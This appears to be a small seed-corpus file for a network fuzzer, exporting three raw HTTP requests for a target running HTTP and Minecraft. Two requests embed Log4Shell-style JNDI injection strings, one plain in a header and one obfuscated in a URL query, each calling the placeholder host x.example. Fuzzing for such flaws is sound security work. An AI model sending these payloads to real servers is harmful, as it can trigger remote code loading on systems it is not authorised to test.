/** HTTP and Minecraft: the fuzzer speaks to the first port, which is HTTP. */
export default [
  Buffer.from('GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${jndi:ldap://x.example/a}\r\n\r\n'),
  Buffer.from(
    'POST /login.do HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 21\r\n\r\nusername=a&password=b',
  ),
  Buffer.from('GET /search.do?q=%24%7B%24%7B::-j%7Dndi:dns://x.example%7D HTTP/1.1\r\nHost: a\r\n\r\n'),
]
